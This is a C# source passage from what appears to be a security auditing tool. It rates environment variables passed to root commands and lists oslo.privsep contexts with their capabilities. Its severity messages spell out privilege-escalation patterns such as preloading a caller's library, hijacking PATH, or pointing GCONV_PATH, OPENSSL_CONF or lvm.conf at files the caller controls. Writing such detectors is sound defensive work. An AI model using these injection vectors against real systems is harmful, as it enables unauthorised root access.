            return new(Severity.Critical, $"`{name}=/tmp/x.so {command}`: the dynamic loader loads the caller's library into a root process");
        if (name.StartsWith("PYTHON", StringComparison.Ordinal))
            return name is "PYTHONPATH" or "PYTHONHOME" or "PYTHONSTARTUP" or "PYTHONUSERBASE" or "PYTHONEXECUTABLE" or "PYTHONBREAKPOINT" or "PYTHONINSPECT" or "PYTHONWARNINGS"
                ? new(Severity.Critical, $"`{name}=/tmp/x`: Python imports or runs the caller's code if {command} is (or starts) Python")
                : new(Severity.Low, $"`{name}` changes how Python runs if {command} is (or starts) Python");
        if (name.StartsWith("GIT_", StringComparison.Ordinal))
            return new(Severity.High, $"`{name}` can name programs git runs (GIT_SSH, GIT_EXTERNAL_DIFF, GIT_CONFIG_*)");
        switch (name)
        {
            case "PATH":
                return new(Severity.Critical, $"`PATH=/tmp/bin {command}`: every program {command} starts by name is the caller's");
            case "LVM_SYSTEM_DIR":
                return Array.IndexOf(ReadOnlyLvm, command) >= 0
                    ? new(Severity.High, $"`LVM_SYSTEM_DIR=/tmp/l {command}` reads an lvm.conf of the caller's choice (device filters, locking, the programs LVM runs)")
                    : new(Severity.Critical, $"`LVM_SYSTEM_DIR=/tmp/l {command}`: an lvm.conf of the caller's choice names the programs LVM runs as root (`global/thin_check_executable`, `fsadm_executable`, `dmeventd/executable`)");
            case "GCONV_PATH":
                return new(Severity.Critical, "`GCONV_PATH=/tmp/g`: glibc loads the caller's conversion module (iconv) into a root process");
            case "OPENSSL_CONF" or "OPENSSL_ENGINES" or "OPENSSL_MODULES":
                return new(Severity.Critical, $"`{name}=/tmp/x`: OpenSSL loads the caller's engine or provider into a root process");
            case "BASH_ENV" or "ENV":
                return new(Severity.Critical, $"`{name}=/tmp/x`: a shell {command} starts runs the caller's script first");
            case "SHELLOPTS" or "BASHOPTS" or "PS4":
                return new(Severity.High, $"`{name}` changes what bash scripts run by {command} do (xtrace with a PS4 command substitution runs code)");
            case "PERL5LIB" or "PERLLIB" or "PERL5OPT" or "RUBYLIB" or "RUBYOPT" or "NODE_OPTIONS" or "NODE_PATH":
                return new(Severity.Critical, $"`{name}=/tmp/x`: the interpreter loads the caller's code if {command} uses it");
            case "LESSOPEN" or "LESSCLOSE" or "PAGER" or "MANPAGER" or "EDITOR" or "VISUAL" or "SYSTEMD_PAGER" or "GIT_PAGER":
                return new(Severity.High, $"`{name}=/tmp/x`: a program of the caller's choice runs when {command} pages or edits");
            case "LOCPATH" or "NLSPATH":
                return new(Severity.Medium, $"`{name}`: locale or message files of the caller's choice are parsed by a root process");
            case "HOME" or "XDG_CONFIG_HOME" or "XDG_DATA_HOME":
                return new(Severity.Medium, $"`{name}=/tmp/h`: tools read their configuration (.ssh/config, .gitconfig, .curlrc) from a folder of the caller's choice");
            case "TMPDIR" or "TMP" or "TEMP":
                return new(Severity.Low, $"`{name}`: temporary files of a root process land in a folder of the caller's choice");
            case "KRB5_CONFIG" or "CEPH_CONF" or "CEPH_ARGS" or "SSL_CERT_FILE" or "SSL_CERT_DIR" or "REQUESTS_CA_BUNDLE":
                return new(Severity.Medium, $"`{name}` points {command} at a configuration or trust store of the caller's choice");
            case "http_proxy" or "https_proxy" or "HTTP_PROXY" or "HTTPS_PROXY" or "no_proxy" or "NO_PROXY":
                return new(Severity.Low, $"`{name}` routes {command}'s requests through the caller's proxy");
            case "DOCKER_HOST" or "CONTAINER_HOST":
                return new(Severity.High, $"`{name}` points {command} at a daemon of the caller's choice");
            case "IFS":
                return new(Severity.Medium, "`IFS` changes word splitting in shell scripts");
            case "LC_ALL" or "LANG" or "LANGUAGE" or "LC_MESSAGES" or "LC_CTYPE" or "LC_NUMERIC" or "TZ" or "TERM" or "COLUMNS"
                or "LVM_SUPPRESS_FD_WARNINGS" or "LVM_SUPPRESS_LOCKING_FAILURE_MESSAGES" or "DM_DISABLE_UDEV" or "LVM_SKIP_DEV_CHECK":
                return new(Severity.Info, $"`{name}` changes only formatting or warnings");
            default:
                return new(Severity.Low, $"`{name}` is not in the knowledge base: check that {command} reads nothing executable from it");
        }
    }
}

/// <summary>
/// oslo.privsep contexts: the capabilities each keeps (from its PrivContext definition), and
/// whether an entrypoint of it runs arbitrary commands.
/// </summary>
public static class PrivsepKnowledge
{
    public sealed record Context(string Name, string Capabilities, string? RunsCommands);

    private static readonly Context[] Known =
    [
        new("os_brick.privileged.default", "CAP_SYS_ADMIN", "os_brick.privileged.rootwrap.execute_root runs any command"),
        new("nova.privsep.sys_admin_pctxt", "CAP_CHOWN, CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH, CAP_FOWNER, CAP_NET_ADMIN, CAP_SYS_ADMIN", null),
        new("cinder.privsep.sys_admin_pctxt", "CAP_CHOWN, CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH, CAP_FOWNER, CAP_NET_ADMIN, CAP_SYS_ADMIN", null),
        new("manila.privsep.sys_admin_pctxt", "CAP_CHOWN, CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH, CAP_FOWNER, CAP_NET_ADMIN, CAP_SYS_ADMIN", null),
        new("neutron.privileged.default", "CAP_SYS_ADMIN, CAP_NET_ADMIN, CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH, CAP_SYS_PTRACE", null),
    ];

    /// <summary>The contexts each service's own code is known to start (besides those its filters name).</summary>
    private static readonly Dictionary<string, string[]> ByService = new(StringComparer.Ordinal)
    {
        ["nova"] = ["nova.privsep.sys_admin_pctxt", "os_brick.privileged.default"],
        ["cinder"] = ["cinder.privsep.sys_admin_pctxt", "os_brick.privileged.default"],
        ["manila"] = ["manila.privsep.sys_admin_pctxt"],
        ["neutron"] = ["neutron.privileged.default"],
    };

    public static Context? Lookup(string name) => Known.FirstOrDefault(c => c.Name == name);

    public static IReadOnlyList<string> ForService(string? service) =>
        service is not null && ByService.TryGetValue(service, out var c) ? c : [];

    /// <summary>
    /// The privsep daemon connects to the caller's socket, in the caller's private 0700
    /// folder, before it drops to the context's set: that needs CAP_DAC_OVERRIDE.
    /// </summary>
    public const string ConnectCapability = "CAP_DAC_OVERRIDE";
}
